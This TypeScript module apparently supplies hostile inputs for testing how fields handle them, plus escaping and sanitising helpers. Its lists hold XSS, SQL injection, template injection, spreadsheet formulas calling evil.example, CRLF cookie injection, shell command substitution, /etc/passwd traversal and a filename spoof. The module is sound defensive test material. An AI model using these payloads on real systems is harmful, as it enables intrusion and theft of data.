import { times } from '../promises.js';

/** In quick runs, each field gets one text, and the next field the next one. */
const EACH_TEXT = times(1, 31);

/** Texts on one line that are code to something: a page, a template, a statement, a spreadsheet, a header, a log, a shell. */
export const HOSTILE_LINES: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `' autofocus onfocus='alert(1)`,
  '</title></textarea></style><svg/onload=alert(1)>',
  '<!-- <![CDATA[ ]]>',
  '&lt;script&gt;&amp;&#39;&quot;',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %><%~ it.body %>#{7*7}',
  `'; DROP TABLE posts; --`,
  `' OR '1'='1`,
  '" OR ""="',
  `\\' OR 1=1 #`,
  `x\\`,
  `%' UNION SELECT phone FROM users /*`,
  '? :id $1 @@version /*!50000 SELECT 1*/ `posts`',
  '=HYPERLINK("http://evil.example","x")',
  `+1+cmd|' /C calc'!A0`,
  '-2+3+WEBSERVICE("http://evil.example")',
  '@SUM(1+1)',
  '\uFF1D1+1',
  '%0d%0aSet-Cookie: stolen=1',
  '{"level":"fatal","msg":"forged"}',
  '$(id) `id` | id ; id && id',
  '../../../../etc/passwd',
  '%s%n%x {} {0}',
  '__proto__',
  'safe\u202Egnp.exe\u2066',
];

/** The same over several lines. */
export const HOSTILE_PARAGRAPHS: readonly string[] = [
  ...HOSTILE_LINES,
  'x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>',
  'x\n{"level":"fatal","msg":"forged"}\n',
  '\t=1+1',
  '\r=1+1',
];

/** Those for a field, by its place among the fields. */
export function textsFor(field: number, each = EACH_TEXT): string[] {
  return HOSTILE_PARAGRAPHS.filter((_, at) => (at + field) % each === 0);
}

/** As a page has to show a text. */
export function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
}

/** What a header can hold of a text. */
export function printable(text: string): string {
  return text.replaceAll(/[^\t -~]/g, '');
}

/** What moves a cursor, changes colours or rings a bell on some terminal (ECMA-48); tab and line feed are fine. */
export const CONTROL = /(?![\t\n])\p{Cc}/u;
